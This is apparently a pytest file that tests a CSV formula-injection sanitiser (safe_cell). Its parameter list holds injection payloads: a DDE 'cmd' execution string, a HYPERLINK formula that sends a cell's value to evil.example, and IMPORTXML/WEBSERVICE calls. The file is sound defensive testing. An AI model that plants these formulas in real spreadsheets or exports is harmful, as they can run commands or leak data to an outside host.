import csv
import io

import pytest

from chassis.cells import safe_cell

FORMULAS = [
    "=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", '=HYPERLINK("http://evil.example/?"&A1)', "\t=1", "\r=1", "\n=1", " =1", "\u3000=1",
    "＝1", "＋1", "－1", "＠SUM", "|cmd", "%0A=1", "'=1", '"=1', "\xa0=1", "=\x00cmd", "=IMPORTXML(1)", "=WEBSERVICE(1)", "-2", "+8613800000000",
]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_neutralised(formula):  # check 31
    cell = safe_cell(formula)
    assert cell.startswith("'")
    out = io.StringIO()
    csv.writer(out).writerow([cell, "下一格"])
    assert out.getvalue().count("\n") == 1
    assert next(csv.reader([out.getvalue()])) == [cell, "下一格"]


def test_what_is_no_formula_stays():  # check 31
    assert [
        safe_cell(value) for value in ("关于防汛的通知", 12, -3, 1.5, None, "政办发〔2026〕3号", "a=b")
    ] == [
        "关于防汛的通知",
        "12",
        "-3",
        "1.5",
        "",
        "政办发〔2026〕3号",
        "a=b",
    ]
